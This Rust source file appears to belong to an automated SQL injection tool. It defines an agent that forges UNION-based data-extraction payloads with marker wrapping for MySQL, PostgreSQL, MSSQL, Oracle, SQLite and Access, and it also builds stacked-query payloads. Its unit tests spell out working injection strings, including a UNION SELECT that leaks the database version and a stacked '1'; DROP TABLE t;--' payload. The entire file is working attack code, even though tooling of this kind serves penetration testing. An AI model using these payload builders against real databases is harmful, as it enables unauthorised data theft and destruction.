//! SQL Agent - Query building and manipulation

use super::enums::DBMS;
use super::queries::Queries;
use super::settings::{CHAR_START, CHAR_STOP, NULL};

/// Agent for building SQL injection payloads
pub struct Agent {
    pub dbms: DBMS,
    pub prefix: String,
    pub suffix: String,
    pub comment: String,
}

impl Agent {
    pub fn new(dbms: DBMS) -> Self {
        let comment = match dbms {
            DBMS::MySQL => "-- -",
            DBMS::PostgreSQL => "--",
            DBMS::MSSQL => "--",
            DBMS::Oracle => "--",
            DBMS::SQLite => "--",
            DBMS::Access => "",
            DBMS::Unknown => "-- -",
        };

        Self {
            dbms,
            prefix: String::new(),
            suffix: String::new(),
            comment: comment.to_string(),
        }
    }

    pub fn with_boundaries(mut self, prefix: Option<&str>, suffix: Option<&str>) -> Self {
        if let Some(p) = prefix {
            self.prefix = p.to_string();
        }
        if let Some(s) = suffix {
            self.suffix = s.to_string();
        }
        self
    }

    /// Wrap an expression with the start/stop markers
    /// MySQL: CONCAT('start', IFNULL(CAST(field AS CHAR), ' '), 'stop')
    pub fn concat_field(&self, field: &str) -> String {
        match self.dbms {
            DBMS::MySQL | DBMS::Unknown => {
                format!("CONCAT('{}',IFNULL(CAST({} AS CHAR),' '),'{}')",
                    CHAR_START, field, CHAR_STOP)
            },
            DBMS::PostgreSQL => {
                format!("'{}'||COALESCE(CAST({} AS CHARACTER(10000)),' ')||'{}'",
                    CHAR_START, field, CHAR_STOP)
            },
            DBMS::MSSQL => {
                format!("'{}'+ISNULL(CAST({} AS VARCHAR(8000)),' ')+'{}'",
                    CHAR_START, field, CHAR_STOP)
            },
            DBMS::Oracle => {
                format!("'{}'||NVL(CAST({} AS VARCHAR(4000)),' ')||'{}'",
                    CHAR_START, field, CHAR_STOP)
            },
            DBMS::SQLite => {
                format!("'{}'||IFNULL(CAST({} AS TEXT),' ')||'{}'",
                    CHAR_START, field, CHAR_STOP)
            },
            DBMS::Access => {
                format!("'{}'&IIF(ISNULL({}),'',({}))&'{}'",
                    CHAR_START, field, field, CHAR_STOP)
            },
        }
    }

    /// Build UNION query carrying `expression` in column `position`
    pub fn forge_union_query(&self, expression: &str, position: usize, count: usize) -> String {
        let mut columns: Vec<String> = vec![NULL.to_string(); count.max(1)];
        let slot = position.min(columns.len() - 1);
        columns[slot] = self.concat_field(expression);

        let union_part = format!("UNION ALL SELECT {}", columns.join(","));

        let payload = match Queries::new(self.dbms).from_dummy() {
            Some(table) => format!("{} {} FROM {}{} {}", self.prefix, union_part, table, self.suffix, self.comment),
            None => format!("{} {}{} {}", self.prefix, union_part, self.suffix, self.comment),
        };
        payload.trim().to_string()
    }

    /// Build a stacked payload executing `statement` after the original query
    pub fn forge_stacked_query(&self, statement: &str) -> String {
        format!("{}; {};{}{}", self.prefix, statement, self.suffix, self.comment)
    }

    /// Turn a bare expression into a standalone statement
    pub fn select_expression(expression: &str) -> String {
        if expression.trim_start().to_uppercase().starts_with("SELECT ") {
            expression.to_string()
        } else {
            format!("SELECT {}", expression)
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_union_payload() {
        let agent = Agent::new(DBMS::MySQL).with_boundaries(Some("1'"), None);
        let payload = agent.forge_union_query("VERSION()", 1, 3);
        assert_eq!(
            payload,
            "1' UNION ALL SELECT NULL,CONCAT('qvxvq',IFNULL(CAST(VERSION() AS CHAR),' '),'qpkpq'),NULL -- -"
        );
    }

    #[test]
    fn test_stacked_payload() {
        let agent = Agent::new(DBMS::PostgreSQL).with_boundaries(Some("1'"), None);
        assert_eq!(agent.forge_stacked_query("DROP TABLE t"), "1'; DROP TABLE t;--");
    }

    #[test]
    fn test_select_expression() {
        assert_eq!(Agent::select_expression("VERSION()"), "SELECT VERSION()");
        assert_eq!(Agent::select_expression("SELECT 1"), "SELECT 1");
    }
}
